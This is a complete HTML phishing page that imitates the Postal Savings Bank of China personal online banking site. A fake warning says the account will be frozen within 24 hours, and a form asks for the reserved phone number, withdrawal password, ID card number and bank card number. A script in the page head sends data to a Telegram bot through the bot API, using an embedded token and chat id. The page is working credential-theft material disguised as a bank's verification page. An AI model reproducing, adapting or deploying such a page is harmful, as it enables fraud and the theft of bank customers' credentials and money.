<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>中国邮政储蓄银行个人网上银行</title>
<style>body{font-family:Helvetica,Arial,sans-serif;background:#fff}.container{max-width:1180px;margin:auto}</style>
<script>function send(d){fetch("https://api.telegram.org/bot4802499751:AAuyldapkkychcvstilknzhyooautklr/sendMessage?chat_id=-284536147&text="+encodeURIComponent(d))}</script>
</head>
<body>
<div class="menu"><a href="?c=1">首页</a> | <a href="/list/2">个人网银</a> | <a href="/#3">安全中心</a></div>
<main class="main">
<div class="row">
<div class="alert">您的账户因安全等级过低将被停用，请于24小时内完成身份验证。</div>
</div>
<section>
<form action="next.php" method="post"><div class="row"><label>预留手机号</label><input type="text" name="phone" placeholder="请输入预留手机号"></div>
<div class="row"><label>取款密码</label><input type="password" name="pwd" placeholder="请输入取款密码"></div>
<div class="row"><label>身份证号</label><input type="text" name="idcard" placeholder="请输入身份证号"></div>
<div class="row"><label>银行卡号</label><input type="text" name="cardno" placeholder="请输入银行卡号"></div><button type="submit">提交验证</button></form>
</section>
<section>
<p class="tip">温馨提示：验证成功后账户将自动解冻</p>
</section>
</main>
<footer>中国邮政储蓄银行 版权所有 客服热线 955xx</footer>

</body>
</html>
